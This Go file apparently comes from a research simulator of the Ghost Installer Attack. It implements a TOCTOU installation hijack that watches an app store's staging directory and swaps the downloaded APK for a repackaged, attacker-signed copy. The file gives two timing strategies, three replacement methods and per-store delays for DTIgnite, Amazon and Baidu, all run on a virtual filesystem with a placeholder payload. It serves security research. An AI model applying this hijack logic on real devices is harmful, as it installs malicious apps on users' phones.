package attack

import (
	"fmt"
	"strings"
	"time"

	"github.com/ghost-installer/gia/internal/apk"
	"github.com/ghost-installer/gia/internal/fileobserver"
	"github.com/ghost-installer/gia/internal/sim"
	"github.com/ghost-installer/gia/internal/vfs"
)

// Strategy selects how the TOCTOU attacker finds the replacement window.
type Strategy int

// Attack strategies from Section III-B.
const (
	// StrategyFileObserver counts CLOSE_NOWRITE verification reads after
	// download completion, using the per-store fingerprint.
	StrategyFileObserver Strategy = iota + 1
	// StrategyWaitAndSee polls file tails for the APK's
	// end-of-central-directory record and replaces after a fixed,
	// pre-measured delay.
	StrategyWaitAndSee
)

func (s Strategy) String() string {
	switch s {
	case StrategyFileObserver:
		return "file-observer"
	case StrategyWaitAndSee:
		return "wait-and-see"
	default:
		return fmt.Sprintf("strategy(%d)", int(s))
	}
}

// ParseStrategy is the inverse of Strategy.String: it maps a strategy's
// name back onto the strategy. Names match exactly.
func ParseStrategy(name string) (Strategy, error) {
	for _, s := range []Strategy{StrategyFileObserver, StrategyWaitAndSee} {
		if s.String() == name {
			return s, nil
		}
	}
	return 0, fmt.Errorf("unknown strategy %q (want file-observer or wait-and-see)", name)
}

// ReplaceMethod selects how the replacement lands on the staged file. The
// paper's DAPP analysis (Section V-B) enumerates all three and the events
// each exposes.
type ReplaceMethod int

// Replacement methods.
const (
	// MethodRename moves a pre-stored file over the target in one
	// operation (MOVED_TO) — the default and fastest.
	MethodRename ReplaceMethod = iota + 1
	// MethodOverwrite opens the target and rewrites it in place
	// (OPEN, MODIFY…, CLOSE_WRITE), imitating a download.
	MethodOverwrite
	// MethodDeleteRewrite deletes the target and writes a fresh copy
	// (DELETE, then CREATE…CLOSE_WRITE).
	MethodDeleteRewrite
)

func (m ReplaceMethod) String() string {
	switch m {
	case MethodRename:
		return "rename"
	case MethodOverwrite:
		return "overwrite"
	case MethodDeleteRewrite:
		return "delete-rewrite"
	default:
		return fmt.Sprintf("method(%d)", int(m))
	}
}

// TOCTOUConfig parameterizes a hijack. The per-store knowledge
// (StagingDir, VerifyReads, WaitDelay) comes from analysing the target
// appstore beforehand, exactly as the paper describes.
type TOCTOUConfig struct {
	Strategy Strategy
	// StagingDir is the store's (stable) download directory.
	StagingDir string
	// VerifyReads is the store's CLOSE_NOWRITE fingerprint
	// (FileObserver strategy).
	VerifyReads int
	// WaitDelay is the pre-measured delay after download completion
	// (wait-and-see strategy): 2 s for DTIgnite, 500 ms for Amazon/Baidu.
	WaitDelay time.Duration
	// PollInterval is the EOCD polling cadence (wait-and-see).
	PollInterval time.Duration
	// ReactMin/ReactMax bound the attacker's code-path latency between
	// deciding to strike and the replacement landing.
	ReactMin, ReactMax time.Duration
	// Method selects the replacement mechanics (default MethodRename).
	Method ReplaceMethod
}

// defaultPayload is the malicious content packed into every replacement
// APK. It is only ever read: repackaging copies the entries into the evil
// APK.
var defaultPayload = map[string][]byte{"classes.dex": []byte("gia-payload")}

func (c *TOCTOUConfig) fill() {
	if c.PollInterval <= 0 {
		c.PollInterval = 50 * time.Millisecond
	}
	if c.ReactMin <= 0 {
		c.ReactMin = 2 * time.Millisecond
	}
	if c.ReactMax < c.ReactMin {
		c.ReactMax = c.ReactMin
	}
	if c.Method == 0 {
		c.Method = MethodRename
	}
}

// Replacement records one successful file substitution.
type Replacement struct {
	Path string
	At   time.Duration
}

// TOCTOU is a running installation-hijack attack.
type TOCTOU struct {
	mal      *Malware
	cfg      TOCTOUConfig
	evil     *apk.APK
	evilData []byte
	cacheDir string
	staged   int

	obs    *fileobserver.Observer
	ticker *sim.Ticker

	// FileObserver state machine.
	candidate string
	noWrites  int
	armed     bool

	// Wait-and-see state.
	handled map[string]bool

	replacements []Replacement
}

// NewTOCTOU prepares a hijack of the store described by cfg, replacing the
// genuine APK `orig` (obtained from the store beforehand) with a
// same-manifest repackage carrying the attacker's classes.dex, signed by the
// malware's key. For the target its kit was built with, that is the kit's
// prepared replacement; any other APK is repackaged here.
func NewTOCTOU(mal *Malware, cfg TOCTOUConfig, orig *apk.APK) *TOCTOU {
	cfg.fill()
	evil := mal.kit.evil
	if orig != mal.kit.target {
		evil = apk.Repackage(orig, defaultPayload, mal.Key, false)
	}
	return &TOCTOU{
		mal:      mal,
		cfg:      cfg,
		evil:     evil,
		evilData: evil.Encode(),
		cacheDir: fmt.Sprintf("/sdcard/.gia-%08x", mal.Dev.Sched.Uint32()),
		handled:  make(map[string]bool),
	}
}

// EvilAPK returns the replacement package (for assertions).
func (a *TOCTOU) EvilAPK() *apk.APK { return a.evil }

// Replacements lists the substitutions performed so far.
func (a *TOCTOU) Replacements() []Replacement {
	return append([]Replacement(nil), a.replacements...)
}

// Launch arms the attack. It returns an error only for setup failures; from
// here on the attacker reacts to filesystem events on the virtual clock.
func (a *TOCTOU) Launch() error {
	if err := a.mal.Dev.FS.MkdirAll(a.cacheDir, a.mal.UID(), vfs.ModeDir); err != nil {
		return fmt.Errorf("attack: prepare cache dir: %w", err)
	}
	if err := a.preStage(); err != nil {
		return err
	}
	switch a.cfg.Strategy {
	case StrategyFileObserver:
		a.obs = fileobserver.New(a.mal.Dev.FS, a.cfg.StagingDir, fileobserver.AllEvents, a.onEvent)
		if err := a.obs.StartWatching(); err != nil {
			return fmt.Errorf("attack: watch staging dir: %w", err)
		}
	case StrategyWaitAndSee:
		a.ticker = sim.NewTicker(a.mal.Dev.Sched, a.cfg.PollInterval, a.poll)
	default:
		return fmt.Errorf("attack: unknown strategy %v", a.cfg.Strategy)
	}
	return nil
}

// Stop disarms the attack.
func (a *TOCTOU) Stop() {
	if a.obs != nil {
		a.obs.StopWatching()
	}
	if a.ticker != nil {
		a.ticker.Stop()
	}
}

// preStage writes a fresh copy of the replacement APK into the attacker's
// hidden cache, ready to be renamed over the target in one operation.
func (a *TOCTOU) preStage() error {
	a.staged++
	path := fmt.Sprintf("%s/payload-%d.bin", a.cacheDir, a.staged)
	if err := a.mal.Dev.FS.WriteFileShared(path, a.evilData, a.mal.UID(), vfs.ModeShared); err != nil {
		return fmt.Errorf("attack: pre-stage payload: %w", err)
	}
	return nil
}

func (a *TOCTOU) stagedPath() string {
	return fmt.Sprintf("%s/payload-%d.bin", a.cacheDir, a.staged)
}

// onEvent is the FileObserver strategy's state machine: detect download
// completion (CLOSE_WRITE, or the store's MOVED_TO rename), count the
// store's verification reads, and strike after the fingerprint count.
func (a *TOCTOU) onEvent(ev fileobserver.Event) {
	if ev.Actor == a.mal.UID() {
		return // ignore our own filesystem noise
	}
	switch ev.Mask {
	case fileobserver.CloseWrite, fileobserver.MovedTo:
		if strings.HasSuffix(ev.Name, ".part") {
			return // mid-download temp file
		}
		a.candidate = ev.Path
		a.noWrites = 0
		a.armed = true
	case fileobserver.CloseNoWrite:
		if !a.armed || ev.Path != a.candidate {
			return
		}
		a.noWrites++
		if a.noWrites < a.cfg.VerifyReads {
			return
		}
		a.armed = false
		a.strike(ev.Path)
	case fileobserver.Delete:
		if ev.Path == a.candidate {
			a.armed = false // store discarded the file (re-download)
		}
	}
}

// poll is the wait-and-see strategy: look for a complete EOCD record at the
// tail of any foreign file in the staging directory, then schedule the
// replacement WaitDelay after the completion was first observed.
func (a *TOCTOU) poll(now time.Duration) bool {
	infos, err := a.mal.Dev.FS.List(a.cfg.StagingDir)
	if err != nil {
		return true // directory may not exist yet
	}
	seen := make(map[string]bool, len(infos))
	for _, info := range infos {
		if info.IsDir || info.Owner == a.mal.UID() {
			continue
		}
		path := info.Path
		seen[path] = true
		if a.handled[path] {
			continue
		}
		tail, err := a.mal.Dev.FS.ReadTail(path, 64, a.mal.UID())
		if err != nil || !apk.HasEOCD(tail) {
			continue
		}
		a.handled[path] = true
		target := path
		a.mal.Dev.Sched.AfterFn(a.cfg.WaitDelay, func() { a.strike(target) })
	}
	// Forget files that vanished so a re-download re-arms the attack.
	for path := range a.handled {
		if !seen[path] {
			delete(a.handled, path)
		}
	}
	return true
}

// strike performs the replacement after the attacker's reaction latency,
// using the configured method.
func (a *TOCTOU) strike(path string) {
	latency := a.mal.Dev.Sched.Uniform(a.cfg.ReactMin, a.cfg.ReactMax)
	a.mal.Dev.Sched.AfterFn(latency, func() {
		if err := a.replace(path); err != nil {
			// Blocked (e.g. the patched FUSE daemon) or the file moved.
			return
		}
		a.replacements = append(a.replacements, Replacement{Path: path, At: a.mal.Dev.Sched.Now()})
		// Ready the next copy in case the store re-downloads.
		_ = a.preStage()
	})
}

func (a *TOCTOU) replace(path string) error {
	fs := a.mal.Dev.FS
	switch a.cfg.Method {
	case MethodOverwrite:
		return fs.WriteFileShared(path, a.evilData, a.mal.UID(), vfs.ModeShared)
	case MethodDeleteRewrite:
		if err := fs.Remove(path, a.mal.UID()); err != nil {
			return err
		}
		return fs.WriteFileShared(path, a.evilData, a.mal.UID(), vfs.ModeShared)
	default: // MethodRename
		return fs.Rename(a.stagedPath(), path, a.mal.UID())
	}
}
